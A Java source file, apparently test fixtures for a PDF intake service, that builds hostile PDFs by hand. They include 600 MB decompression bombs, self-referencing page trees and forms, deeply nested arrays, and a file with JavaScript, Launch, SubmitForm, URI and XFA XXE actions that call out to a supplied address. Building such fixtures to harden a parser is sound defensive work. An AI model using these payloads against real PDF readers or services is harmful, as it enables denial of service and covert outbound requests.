package cn.banwen.intake;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Objects;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocument;

/** PDFs that mean harm, written by hand, object by object. */
public final class HostilePdfs {

    private static final String PAGES = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>";
    private static final String CATALOG = "<< /Type /Catalog /Pages 2 0 R >>";

    private HostilePdfs() {}

    /** The same with fonts that say of their glyphs nothing but the outlines. */
    static byte[] nameless(byte[] pdf) throws IOException {
        try (PDDocument document = Loader.loadPDF(pdf)) {
            COSDictionary resources = document.getPage(0).getResources().getCOSObject();
            COSDictionary fonts = Objects.requireNonNull(resources.getCOSDictionary(COSName.FONT));
            for (COSName name : fonts.keySet()) {
                Objects.requireNonNull(fonts.getCOSDictionary(name)).removeItem(COSName.TO_UNICODE);
            }
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            document.save(out);
            return out.toByteArray();
        }
    }

    public static byte[] manyPages(int count) {
        String kids = IntStream.range(0, count).mapToObj(i -> (i + 5) + " 0 R").collect(Collectors.joining(" "));
        List<byte[]> objects = new ArrayList<>(List.of(
                ascii(CATALOG),
                ascii("<< /Type /Pages /Kids [" + kids + "] /Count " + count + " >>"),
                ascii("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"),
                stream("", ascii("BT /F 12 Tf 72 700 Td (Notice to all) Tj ET"))));
        for (int i = 0; i < count; i++) {
            objects.add(ascii("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
                    + "/Resources << /Font << /F 3 0 R >> >> >>"));
        }
        return pdf(objects);
    }

    /** Each of forty forms draws the next one ten times. */
    public static byte[] formsThatDrawOneAnother() {
        List<byte[]> objects = new ArrayList<>(List.of(
                ascii(CATALOG),
                ascii(PAGES),
                ascii("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
                        + "/Resources << /XObject << /X 5 0 R >> >> >>"),
                stream("", ascii("/X Do"))));
        for (int i = 0; i < 40; i++) {
            objects.add(stream(
                    "/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X " + (6 + i % 40)
                            + " 0 R >> >>",
                    ascii("/X Do ".repeat(10))));
        }
        objects.add(stream("/Type /XObject /Subtype /Form /BBox [0 0 9 9]", ascii("0 0 1 1 re f")));
        return pdf(objects);
    }

    /** Drawing instructions that unfold to 600 MB. */
    public static byte[] contentBomb() throws IOException {
        return onePage(stream("/Filter /FlateDecode", deflated("", "0 0 1 1 re f\n", 600L << 20)));
    }

    /** One string that unfolds to 600 MB. */
    static byte[] stringBomb() throws IOException {
        return onePage(stream("/Filter /FlateDecode", deflated("BT (", "aaaaaaaaaaaa", 600L << 20)));
    }

    /** The catalog lies in an object stream that unfolds to 600 MB. */
    static byte[] objectStreamBomb() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(ascii("%PDF-1.7\n"));
        int objects = out.size();
        out.write(ascii("1 0 obj\n"));
        out.write(stream(
                "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode",
                deflated("2 0 << >> ", "            ", 600L << 20)));
        out.write(ascii("\nendobj\n"));
        int xref = out.size();
        byte[] table = {
            0,
            0,
            0,
            0,
            0,
            0,
            1,
            0,
            0,
            0,
            (byte) objects,
            0,
            2,
            0,
            0,
            0,
            1,
            0,
            1,
            (byte) (xref >> 24),
            (byte) (xref >> 16),
            (byte) (xref >> 8),
            (byte) xref,
            0
        };
        out.write(ascii("3 0 obj\n"));
        out.write(stream("/Type /XRef /W [1 4 1] /Size 4 /Root 2 0 R", table));
        out.write(ascii("\nendobj\nstartxref\n" + xref + "\n%%EOF\n"));
        return out.toByteArray();
    }

    public static byte[] deepArrays() {
        return pdf(List.of(ascii(CATALOG), ascii("[".repeat(200_000))));
    }

    /** The list of pages is among its own pages. */
    public static byte[] pagesWithinThemselves() {
        return pdf(List.of(
                ascii(CATALOG),
                ascii("<< /Type /Pages /Kids [3 0 R] /Count 100 >>"),
                ascii("<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 100 >>")));
    }

    /** Opens addresses, runs scripts and programs, sends itself, and has its pictures elsewhere. */
    public static byte[] reachingOut(String address) {
        String uri = "(" + address + "/opened)";
        return pdf(List.of(
                ascii("<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\(\"" + address
                        + "\"\\)) /Next << /S /URI /URI " + uri
                        + " >> >> /AA << /WC << /S /Launch /F (/bin/touch) >> >>"
                        + " /AcroForm << /Fields [] /XFA 6 0 R >> >>"),
                ascii(PAGES),
                ascii(
                        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /AA << /O << /S /SubmitForm /F "
                                + uri
                                + " >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI "
                                + uri + " >> >>] /Resources << /XObject << /X 5 0 R >> >> >>"),
                stream("", ascii("q 99 0 0 99 9 9 cm /X Do Q 0 0 9 9 re f")),
                stream(
                        "/Type /XObject /Subtype /Image /Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceGray"
                                + " /F << /FS /URL /F " + uri + " >>",
                        new byte[81]),
                stream("", ascii("<!DOCTYPE a [<!ENTITY b SYSTEM \"" + address + "/x\">]><xdp>&b;</xdp>"))));
    }

    private static byte[] onePage(byte[] content) {
        return pdf(List.of(
                ascii(CATALOG),
                ascii(PAGES),
                ascii("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"),
                content));
    }

    private static byte[] deflated(String begin, String repeated, long length) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] block = ascii(repeated.repeat(100_000));
        try (DeflaterOutputStream deflater = new DeflaterOutputStream(out, new Deflater(Deflater.BEST_SPEED))) {
            deflater.write(ascii(begin));
            for (long written = 0; written < length; written += block.length) {
                deflater.write(block);
            }
        }
        return out.toByteArray();
    }

    private static byte[] stream(String entries, byte[] content) {
        return concat(
                ascii("<< " + entries + " /Length " + content.length + " >>\nstream\n"), content, ascii("\nendstream"));
    }

    private static byte[] pdf(List<byte[]> objects) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        StringBuilder xref = new StringBuilder("xref\n0 " + (objects.size() + 1) + "\n0000000000 65535 f \n");
        out.writeBytes(ascii("%PDF-1.7\n"));
        for (int i = 0; i < objects.size(); i++) {
            xref.append("%010d 00000 n \n".formatted(out.size()));
            out.writeBytes(concat(ascii((i + 1) + " 0 obj\n"), objects.get(i), ascii("\nendobj\n")));
        }
        int start = out.size();
        out.writeBytes(ascii(xref + "trailer\n<< /Size " + (objects.size() + 1) + " /Root 1 0 R >>\nstartxref\n" + start
                + "\n%%EOF\n"));
        return out.toByteArray();
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    private static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }
}
